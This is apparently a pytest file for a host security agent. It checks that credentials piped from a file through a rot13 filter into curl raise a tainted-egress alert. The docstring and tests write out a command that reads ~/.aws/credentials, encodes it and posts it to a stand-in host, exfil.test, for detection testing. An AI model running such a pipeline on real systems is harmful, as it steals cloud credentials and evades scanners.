"""Provenance through pipes (issue 5 item 5): a process that read a credential file taints the
processes its output is piped to, however many filters stand between them.

`cat ~/.aws/credentials | tr A-Za-z N-ZA-Mn-za-m | curl --data-binary @- https://exfil.test`
sends the file rot13-coded: no key format matches and no value the agent learned from the read
survives the coding, so only the pipe links curl's send to cat's read. The agent is scoped to
the test cgroup; the leak scanner checks at teardown that no key reached any output.
"""

import json
import time

import pytest

from kharness.servers import sha256
from kharness.users import write_aws_credentials

ALERT_TIMEOUT = 6.0  # tainted-egress waits 2 s for a stronger alert before it is raised
ROT13 = "tr A-Za-z N-ZA-Mn-za-m"


def _redacted(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _tainted(alert) -> bool:
    return alert.get("kind") == "tainted-egress"


# The writer: cat, exec'd with the pipe as its stdout; or a subshell forked without exec that
# reads the file line by line with the shell's own `read` (its pipe came after the fork).
WRITERS = {
    "cat": "cat {creds}",
    "sh": "(while IFS= read -r line; do echo \"$line\"; done < {creds})",
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_credentials_piped_through_a_filter_to_curl_alert_naming_the_read(
        writer, test_user, agent, clients, https_server, curl, registry):
    creds = write_aws_credentials(test_user, registry)
    upload = " ".join(curl.https(https_server, "exfil.test", "/p") + ["--data-binary", "@-"])
    source = WRITERS[writer].format(creds=creds)
    clients.run(["sh", "-c", f"{source} | {ROT13} | {upload}"], user=test_user)
    [req] = https_server.wait_for_requests(1)
    assert req.body_sha256 != sha256(creds.read_bytes()), "the body was not coded on the way"

    alerts = agent.wait_for_alerts(_tainted, timeout=ALERT_TIMEOUT)
    assert alerts, f"no tainted-egress alert for curl at the end of the pipe\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["process"]["comm"] == "curl", _redacted(agent, alert)
    assert alert["process"]["uid"] == test_user.uid
    assert alert["destination"]["host"] == "exfil.test"
    assert alert["secret"]["type"] == "aws-credentials"
    assert f"after {writer} (pid " in alert["summary"], _redacted(agent, alert)
    reads = alert["evidence"]["credential_reads"]
    assert any(r["comm"] == writer and r["path"] == str(creds) for r in reads), (
        _redacted(agent, alert))
    notes = " ".join(alert["evidence"]["notes"])
    assert f"read {creds} and its output reached this process's stdin through a pipe" in notes, (
        _redacted(agent, alert))
    # Only provenance could see this send: no format or learned-value alert fired.
    others = [a for a in agent.alerts() if not _tainted(a)]
    assert not others, _redacted(agent, others)


def test_a_send_fed_by_a_pipe_that_carried_no_credential_is_quiet(
        test_user, agent, clients, https_server, curl, registry):
    creds = write_aws_credentials(test_user, registry)
    # The same shell reads the file into a pipe that goes nowhere near the network, then
    # a second pipeline sends harmless bytes: neither the shell nor that curl is tainted.
    upload = " ".join(curl.https(https_server, "exfil.test", "/q") + ["--data-binary", "@-"])
    script = f"cat {creds} | wc -c > /dev/null; echo harmless | {ROT13} | {upload}"
    clients.run(["sh", "-c", script], user=test_user)
    https_server.wait_for_requests(1)
    time.sleep(ALERT_TIMEOUT)
    tainted = [a for a in agent.alerts() if _tainted(a)]
    assert not tainted, _redacted(agent, tainted)
    # The read did taint a pipe (wc's): the quiet is the pipe rule working, not a missed read.
    assert agent.counter("tainted_pipes") >= 1, agent.diagnostics()
